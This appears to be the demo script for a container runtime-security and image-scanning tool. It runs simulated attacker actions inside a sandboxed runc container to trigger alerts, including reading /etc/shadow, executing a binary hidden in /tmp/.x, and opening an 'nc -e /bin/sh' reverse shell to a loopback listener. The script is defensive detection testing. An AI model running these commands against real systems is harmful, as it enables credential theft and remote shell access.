#!/usr/bin/env bash
# demo.sh - the demo behind `make demo`, in two parts.
#
# Runtime: starts `bulwark agent` with the default rules, starts a real runc
# container from a busybox-static rootfs, performs a few attacker actions
# inside it (shell, read /etc/shadow, drop + exec a binary, reverse shell to
# a loopback listener), shows the alerts with container id and name, and
# stops everything cleanly.
# Scanning: builds a docker-archive image from real Debian 12 packages (and
# Python/npm/Java/Rust/Go packages) with scripts/make-test-images.sh, imports
# the OSV fixtures of tests/data/osv and scans it, gating on critical.
set -euo pipefail

BULWARK=${1:-build/bulwark}
BULWARK=$(readlink -f "$BULWARK")
here=$(cd "$(dirname "$0")" && pwd)
src=$(cd "$here/.." && pwd)
build=$(dirname "$BULWARK")
# shellcheck source=lib/container.sh
source "$here/lib/container.sh"

if [ "$(id -u)" -ne 0 ]; then
	echo "demo: needs root (eBPF and runc)" >&2
	exit 1
fi

work=$(mktemp -d /tmp/bulwark-demo.XXXXXX)
cid=bulwark-demo-$$
agent_pid=""
listener_pid=""
cleanup() {
	bw_container_stop "$cid"
	[ -n "$listener_pid" ] && kill "$listener_pid" 2>/dev/null || true
	if [ -n "$agent_pid" ] && kill -0 "$agent_pid" 2>/dev/null; then
		kill -INT "$agent_pid"; wait "$agent_pid" 2>/dev/null || true
	fi
	rm -rf "$work"
}
trap cleanup EXIT

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "Building a busybox-static container bundle"
bw_bundle_make "$work/bundle" sleep 3600

step "Starting bulwark agent (default rules)"
"$BULWARK" agent -o json --output-file "$work/alerts.json" --no-stdout \
	2>"$work/agent.log" &
agent_pid=$!
for _ in $(seq 1 100); do
	grep -q "agent started" "$work/agent.log" 2>/dev/null && break
	kill -0 "$agent_pid" 2>/dev/null || { cat "$work/agent.log"; exit 1; }
	sleep 0.1
done
grep "agent started" "$work/agent.log" || { echo "agent did not start"; cat "$work/agent.log"; exit 1; }

step "Starting container $cid"
bw_container_start "$cid" "$work/bundle"
runc list | grep "$cid"

port=$((20000 + RANDOM % 20000))
step "Attacker actions inside the container"
echo "+ runc exec $cid sh -c 'id; uname -a'"
bw_container_exec "$cid" sh -c 'id; uname -a' || true
echo "+ runc exec $cid cat /etc/shadow"
bw_container_exec "$cid" cat /etc/shadow >/dev/null || true
echo "+ runc exec $cid sh -c 'mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/whoami && /tmp/.x/whoami'"
bw_container_exec "$cid" sh -c 'mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/whoami && /tmp/.x/whoami' || true
echo "+ reverse shell: runc exec $cid nc 127.0.0.1 $port -e /bin/sh   (listener on the host)"
( echo 'id; exit' | timeout 5 busybox nc -l -p "$port" >"$work/listener.out" 2>&1 ) &
listener_pid=$!
sleep 0.3
timeout 5 runc exec "$cid" nc 127.0.0.1 "$port" -e /bin/sh || true
wait "$listener_pid" 2>/dev/null || true
listener_pid=""
echo "listener received: $(tr '\n' ' ' <"$work/listener.out")"

sleep 1
step "Stopping the agent"
kill -INT "$agent_pid"
wait "$agent_pid" || true
agent_pid=""
tail -n 1 "$work/agent.log"

step "Alerts raised"
python3 - "$work/alerts.json" "$cid" <<'PY'
import json, sys
path, cid = sys.argv[1], sys.argv[2]
rows = []
for line in open(path):
    a = json.loads(line)
    f = a.get("output_fields", {})
    rows.append((a["time"][11:23], a["priority"], a["rule"],
                 str(f.get("container.id")), str(f.get("container.name")),
                 str(f.get("proc.cmdline") or f.get("proc.name") or "")))
print(f"{'time':12} {'priority':9} {'rule':52} {'container.id':13} {'container.name':22} process")
for r in rows:
    print(f"{r[0]:12} {r[1]:9} {r[2][:52]:52} {r[3]:13} {r[4][:22]:22} {r[5][:40]}")
mine = [r for r in rows if r[4] == cid]
print(f"\n{len(rows)} alerts, {len(mine)} from container {cid}")
if not mine:
    sys.exit("demo: no alert came from the container")
PY
echo
echo "First alert in full (Falco JSON):"
head -n 1 "$work/alerts.json" | python3 -m json.tool

# ---- part 2: image scanning ---------------------------------------------
step "Building a test image from real Debian 12 packages (docker-archive + OCI)"
imgs=$build/test-images
if [ ! -f "$imgs/debian-oci/index.json" ]; then
	bash "$here/make-test-images.sh" "$imgs" >"$work/mkimg.log" 2>&1 || {
		cat "$work/mkimg.log" >&2
		echo "demo: could not build the test image (no network and no .deb cache?)" >&2
		exit 1
	}
fi
grep -v '^#' "$imgs/debian-packages.txt" | head -n 5 | sed 's/^/  /'
echo "  ..."

step "Importing the OSV fixtures (real CVE records) into a scratch database"
"$BULWARK" db import --db "$work/osv.sqlite" "$src/tests/data/osv" | tail -n 1

step "bulwark scan image $imgs/debian-docker.tar --fail-on critical"
set +e
"$BULWARK" scan image "$imgs/debian-docker.tar" --db "$work/osv.sqlite" --fail-on critical
rc=$?
set -e
echo
echo "exit status $rc (1: a critical finding remains; --ignore-file or --vex would suppress it)"
[ "$rc" -eq 1 ] || { echo "demo: expected the scan to gate on critical findings" >&2; exit 1; }
